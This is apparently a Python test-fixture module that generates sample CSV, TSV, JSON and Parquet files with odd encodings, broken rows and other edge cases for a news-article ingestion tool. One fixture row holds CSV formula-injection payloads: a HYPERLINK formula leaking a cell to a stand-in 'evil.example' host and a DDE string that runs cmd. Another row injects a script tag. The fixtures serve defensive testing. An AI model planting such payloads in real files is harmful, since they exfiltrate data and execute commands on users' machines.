"""Tables: delimiters, encodings, broken rows, formulas, lists of addresses."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path

from tests.corpus_made.gzipped import zipped
from tests.corpus_made.words import ARABIC, BODY, RAID_BODY, RAID_TITLE, TITLE

ROWS = [
    ("a1", TITLE, BODY, "2024-11-09T10:15:00+05:00", "Valley Paper", "https://valley.example/1"),
    ("a2", RAID_TITLE, RAID_BODY, "2024-11-11", "Frontier Courier", "https://frontier.example/2"),
]
NAMES = ("id", "title", "text", "published", "outlet", "url")


def table(names: Sequence[str], rows: Sequence[Sequence[str]], mark: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=mark, lineterminator="\r\n").writerows([names, *rows])
    return out.getvalue()


def lines(rows: Sequence[Sequence[str]]) -> str:
    return "".join(json.dumps(dict(zip(NAMES, row, strict=True)), ensure_ascii=False) + "\n" for row in rows)


GKG = "\t".join((
    "20241109101500-12", "20241109101500", "1", "valley.example", "https://valley.example/1", *[""] * 21,
    f"<PAGE_TITLE>{TITLE}</PAGE_TITLE>",
))  # fmt: skip
FORMULAS = [
    ("f1", '=HYPERLINK("https://evil.example?"&A1,"24 dead")', BODY, "2024-11-09", "@SUM(1+1)*cmd|' /C calc'!A0", ""),
]

FILES: dict[str, bytes] = {
    "tables/rows.csv": table(NAMES, ROWS).encode(),
    "tables/named-as-text.txt": table(NAMES, ROWS).encode(),
    "tables/semicolons.csv": table(NAMES, ROWS, ";").encode("utf-8-sig"),
    "tables/tabs.tsv": table(NAMES, ROWS, "\t").encode("utf-16"),
    "tables/western.csv": table(NAMES, [(*ROWS[0][:2], BODY + " Türkiye’s envoy said so.", *ROWS[0][3:])]).encode("cp1252"),
    "tables/other-names.csv": table(("uid", "headline", "article_content", "pub_date", "newspaper", "link"), ROWS).encode(),
    "tables/no-text-column.csv": table(("a", "b"), [("1", "2")]).encode(),
    "tables/open-quote.csv.gz": zipped((table(NAMES, ROWS) + 'a3,"' + "x" * 6_000_000).encode()),
    "tables/formulas.csv": table(NAMES, FORMULAS).encode(),
    "tables/short-rows.csv": (table(NAMES, ROWS) + "a3\r\n,,,,,\r\na4,Only a title,,,,\r\n").encode(),
    "tables/same-row-twice.csv": table(NAMES, [ROWS[0], ROWS[0]]).encode(),
    "tables/markup.csv": table(NAMES, [(*ROWS[0][:2], "<p>" + BODY.replace("\n\n", "</p><script>x()</script><p>") + "</p>", *ROWS[0][3:])]).encode(),
    "tables/rows.jsonl": lines(ROWS).encode(),
    "tables/arabic.jsonl": lines([("a1", "", "\n\n".join(ARABIC), "2024-11-09", "", "")]).encode(),
    "tables/list.json": json.dumps({"articles": [dict(zip(NAMES, row, strict=True)) for row in ROWS], "n": 2}).encode(),
    "tables/broken-line.jsonl": (lines(ROWS[:1]) + '{"id": "a2", "text": "Two m').encode(),
    "tables/seconds.jsonl": b'{"text": "Two men were killed by the army in Kech, police said.", "date": 1731141300}\n',
    "tables/deep.jsonl": b'{"text": "Two men died.", "x": ' + b"[" * 5_000 + b"]" * 5_000 + b"}\n",
    "tables/gdelt-doc.json": json.dumps({"articles": [{"url": "https://valley.example/1", "title": TITLE, "seendate": "20241109T101500Z", "domain": "valley.example", "language": "English"}]}).encode(),
    "tables/gdelt.gkg.csv": (GKG + "\n").encode(),
    "tables/damaged.parquet": b"PAR1" + b"\x00" * 100 + b"PAR1",
}  # fmt: skip


def write_parquet(file: Path) -> None:
    """The two rows as Parquet."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({name: [row[n] for row in ROWS] for n, name in enumerate(NAMES)}), file)
